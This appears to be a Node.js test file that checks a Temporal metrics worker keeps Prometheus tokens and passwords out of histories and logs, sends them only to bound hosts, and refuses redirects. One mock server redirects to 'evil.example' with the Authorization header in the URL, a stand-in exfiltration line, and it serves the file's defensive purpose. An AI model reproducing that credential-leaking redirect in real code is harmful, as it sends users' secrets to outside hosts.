import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import type { RequestListener } from 'node:http';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { bundleWorkflowCode, DefaultLogger, type LogEntry, Runtime, Worker } from '@temporalio/worker';
import { createMetricsActivities } from '../../activities/metrics/index.ts';
import type { MeasureRequest } from '../../activities/metrics/port.ts';
import type { PrometheusQuery } from '../../src/plan/plan.ts';
import { locate, parsePolicy, secretValue } from '../../workers/policy.ts';
import type { readOnce } from '../fixtures/activity-workflows.ts';
import { openTemporal, type TestTemporal } from '../fixtures/temporal.ts';
import { loopbackServers } from './support/loopback.ts';

const TOKEN = 'tok3n-"of\\the worker"';
const PASSWORD = 'passw0rd-of-the-worker';
const OWN = { PROMETHEUS_TOKEN: TOKEN, PROMETHEUS_PASSWORD: PASSWORD };
/** However a secret may be written. */
const SPELLINGS = [TOKEN, PASSWORD].flatMap((secret) => [
  secret,
  JSON.stringify(secret).slice(1, -1),
  encodeURIComponent(secret),
  Buffer.from(secret).toString('base64').replace(/=+$/, ''),
  secret.slice(0, 12),
]);
const LOGIN = Buffer.from(`shop:${PASSWORD}`).toString('base64');
const ANSWER = '{"status":"success","data":{"resultType":"vector","result":[]}}';

const { serve, stop } = loopbackServers();
const logged: LogEntry[] = [];
let server: TestTemporal;
let bundle: { code: string };

before(async () => {
  Runtime.install({ logger: new DefaultLogger('TRACE', (entry) => void logged.push(entry)) });
  const workflowsPath = path.join(import.meta.dirname, '../fixtures/activity-workflows.ts');
  [server, bundle] = await Promise.all([
    openTemporal(),
    bundleWorkflowCode({ workflowsPath, logger: new DefaultLogger('ERROR') }),
  ]);
});
after(async () => {
  stop();
  await server?.close();
});

/** A reading in a real worker, and everything that was kept of it: history, answer and log. */
async function read(provider: PrometheusQuery, hosts: readonly string[]) {
  const policy = parsePolicy(
    `secrets:
  prometheus/token: { env: PROMETHEUS_TOKEN, hosts: ${JSON.stringify(hosts)} }
  prometheus/password: { env: PROMETHEUS_PASSWORD, hosts: ${JSON.stringify(hosts)} }`,
    'policy.yaml',
  );
  const taskQueue = randomUUID();
  const worker = await Worker.create({
    connection: server.nativeConnection,
    taskQueue,
    workflowBundle: bundle,
    activities: createMetricsActivities({
      locate: (asked, environment) => locate(asked, policy, environment, () => Promise.reject()),
      secretOf: (use) => secretValue(use, policy, OWN),
    }),
  });
  const from = logged.length;
  const request: MeasureRequest = { provider, beside: 'up', environment: 'production', metric: 'one' };
  const handle = await worker.runUntil(async () => {
    const started = await server.client.workflow.start<typeof readOnce>('readOnce', {
      taskQueue,
      workflowId: taskQueue,
      args: [request],
    });
    await started.result();
    return started;
  });
  const history = await handle.fetchHistory();
  const payloads = textsOf(history).join('\n');
  const kept = [payloads, ...textsOf(logged.slice(from))].join('\n');
  assert.ok(payloads.includes('{{secret.prometheus/token}}'), 'the history is not what was meant to be searched');
  for (const spelling of [...SPELLINGS, LOGIN]) {
    assert.ok(!kept.includes(spelling) && !kept.includes(JSON.stringify(spelling).slice(1, -1)), `kept: ${spelling}`);
  }
  return handle.result();
}

/** Every text in it; payloads of a history are bytes. */
function textsOf(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (value instanceof Uint8Array) return [Buffer.from(value).toString('utf8')];
  if (value instanceof Error) return [value.message, value.stack ?? '', ...textsOf(value.cause)];
  if (typeof value !== 'object' || value === null) return [];
  return Object.values(value).flatMap(textsOf);
}

function withToken(address: string): PrometheusQuery {
  const headers = [{ key: 'Authorization', value: 'Bearer {{secret.prometheus/token}}' }];
  return { kind: 'prometheus', address, query: 'up', timeoutMs: 5_000, headers };
}

function withPassword(address: string): PrometheusQuery {
  const { headers: _, ...plain } = withToken(address);
  // The token stays in the plan's text alone, so that the search has something that it must find.
  return {
    ...plain,
    query: 'up{a="{{secret.prometheus/token}}"}',
    basicAuth: { username: 'shop', password: '{{secret.prometheus/password}}' },
  };
}

/** Servers that get a secret and repeat it, each in its way. */
const TELLERS: readonly (readonly [string, RequestListener])[] = [
  ['answers 401 and repeats it', (request, response) => void response.writeHead(401).end(said(request.headers))],
  ['answers 200 and repeats it', (request, response) => void response.end(said(request.headers))],
  [
    'answers with it as JSON',
    (request, response) => {
      const [, token = ''] = (request.headers.authorization ?? '').split(/ (.*)/s);
      response.writeHead(422).end(JSON.stringify({ errorType: 'bad_data', error: `${'x'.repeat(290)}${token}` }));
    },
  ],
  [
    'sends elsewhere with it',
    (request, response) => {
      const location = `https://evil.example/?${encodeURIComponent(request.headers.authorization ?? '')}`;
      response.writeHead(302, { location }).end();
    },
  ],
  ['breaks off', (request) => void request.socket.destroy()],
  [
    'answers no HTTP, with it',
    (request) => void request.socket.end(`HTTP/1.1 ${request.headers.authorization}\r\n\r\n`),
  ],
  [
    'answers what its password is',
    (request, response) => {
      const [, login = ''] = (request.headers.authorization ?? '').split(' ');
      response.writeHead(403).end(Buffer.from(login, 'base64'));
    },
  ],
  ['answers well', (_, response) => void response.end(ANSWER)],
];

const said = (headers: object) => `you sent ${JSON.stringify(headers)}`;

describe('a secret of a metric', { timeout: 300_000 }, () => {
  for (const [what, listener] of TELLERS) {
    it(`stands in no history, answer or log where the server ${what}`, async () => {
      const seen: string[] = [];
      const address = await serve((request, response) => {
        seen.push(request.headers.authorization ?? '');
        listener(request, response);
      });
      const host = new URL(address).host;
      const token = await read(withToken(address), [host]);
      const password = await read(withPassword(address), [host]);
      assert.deepEqual([...new Set(seen)], [`Bearer ${TOKEN}`, `Basic ${LOGIN}`]);
      for (const { raw, error } of [token, password]) {
        if (what === 'answers well') assert.deepEqual([raw, error], [ANSWER, null]);
        else assert.ok(raw === '' && error !== null, `${raw} ${error}`);
      }
    });
  }

  it('is not sent to a host that it is not bound to', async () => {
    const seen: string[] = [];
    const address = await serve((request, response) => {
      seen.push(JSON.stringify(request.headers));
      response.end(ANSWER);
    });
    const { host } = new URL(address);
    for (const hosts of [['127.0.0.1:1'], ['prometheus.example'], [`${host}0`]]) {
      const { raw, error } = await read(withToken(address), hosts);
      assert.equal(raw, '');
      assert.match(error ?? '', new RegExp(`^the secret "prometheus/token" is not for ${host}, which matches nothing`));
    }
    assert.deepEqual(seen, []);
  });

  it('does not follow a redirect to another server', async () => {
    const seen: string[] = [];
    const other = await serve((request, response) => {
      seen.push(JSON.stringify(request.headers));
      response.end(ANSWER);
    });
    const address = await serve((_, response) => void response.writeHead(307, { location: other }).end());
    const { error } = await read(withToken(address), ['127.0.0.1']);
    assert.match(error ?? '', /answers 307, a redirect, which is not followed/);
    assert.deepEqual(seen, []);
  });
});
